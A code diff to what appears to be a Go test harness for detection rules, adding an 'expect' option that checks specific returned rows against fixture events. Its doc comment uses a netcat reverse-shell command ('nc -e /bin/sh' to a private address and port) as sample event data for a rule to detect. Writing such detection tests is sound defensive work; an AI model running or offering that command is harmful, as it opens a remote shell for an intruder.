@@ -25,6 +25,8 @@ import (
 //	      - command_line: nc -e /bin/sh 10.0.0.1 4444
 //	        executable_path: /usr/bin/nc.traditional
 //	    match: 1                     # rows that the rule returns
+//	    expect:                      # values in these rows, each in another one
+//	      - command_line: nc -e /bin/sh 10.0.0.1 4444
 //	  - name: netcat as a port scanner
 //	    file: scan.jsonl             # rows as JSON Lines, beside the rule
 //	    must_not_match: true
@@ -53,6 +55,7 @@ type fixtureCase struct {
 	Events       []map[string]yaml.Node `yaml:"events"`
 	File         string                 `yaml:"file"`
 	Match        *int                   `yaml:"match"`
+	Expect       []map[string]yaml.Node `yaml:"expect"`
 	MustNotMatch bool                   `yaml:"must_not_match"`
 }
 
@@ -90,8 +93,10 @@ func (c *fixtureCase) check() error {
 		return errors.New("give it a name")
 	case (len(c.Events) == 0) == (c.File == ""):
 		return errors.New("give either events or file")
-	case (c.Match == nil) == !c.MustNotMatch:
-		return errors.New("give either match: COUNT or must_not_match: true")
+	case (c.Match == nil && len(c.Expect) == 0) == !c.MustNotMatch:
+		return errors.New("give either match: COUNT, expect: ROWS or must_not_match: true")
+	case c.Match != nil && *c.Match < len(c.Expect):
+		return fmt.Errorf("match: %d is less than the %d rows of expect", *c.Match, len(c.Expect))
 	case c.Match != nil && *c.Match < 0:
 		return fmt.Errorf("match: %d is negative", *c.Match)
 	case c.Table != "" && event.Lookup(c.Table) == nil:
@@ -103,9 +108,75 @@ func (c *fixtureCase) check() error {
 // want returns how many rows the rule must return.
 func (c *fixtureCase) want() int {
 	if c.Match == nil {
-		return 0
+		return len(c.Expect)
 	}
 	return *c.Match
+}
+
+// missing returns an error if a row of expect is in none of the matches, each
+// of which stands for one row at most.
+func (c *fixtureCase) missing(list []Match) error {
+	rows := make([]map[string]json.RawMessage, len(list))
+	for i := range list {
+		if err := json.Unmarshal(list[i].output, &rows[i]); err != nil {
+			return err
+		}
+	}
+	for n, want := range c.Expect {
+		values := make(map[string]string, len(want))
+		for column, node := range want {
+			var v any
+			if err := node.Decode(&v); err != nil {
+				return fmt.Errorf("expect, row %d, line %d: %w", n+1, node.Line, err)
+			}
+			if t, ok := v.(time.Time); ok {
+				v = t.UTC().Format(timeForm)
+			}
+			text, err := json.Marshal(v)
+			if err != nil {
+				return fmt.Errorf("expect, row %d, line %d: %w", n+1, node.Line, err)
+			}
+			values[column] = canonical(text)
+		}
+		at := -1
+		for i, row := range rows {
+			if row != nil && holds(row, values) {
+				at = i
+				break
+			}
+		}
+		if at < 0 {
+			return fmt.Errorf("expect, row %d is in none of the rows found", n+1)
+		}
+		rows[at] = nil
+	}
+	return nil
+}
+
+// holds reports whether a row has the values, in canonical JSON.
+func holds(row map[string]json.RawMessage, values map[string]string) bool {
+	for column, want := range values {
+		got, ok := row[column]
+		if !ok || canonical(got) != want {
+			return false
+		}
+	}
+	return true
+}
+
+// canonical writes JSON so that equal values are equal texts.
+func canonical(data []byte) string {
+	var v any
+	d := json.NewDecoder(bytes.NewReader(data))
+	d.UseNumber()
+	if d.Decode(&v) != nil {
+		return string(data)
+	}
+	text, err := json.Marshal(v)
+	if err != nil {
+		return string(data)
+	}
+	return string(text)
 }
 
 // batches builds the case's rows, at most 1,000 in a batch.
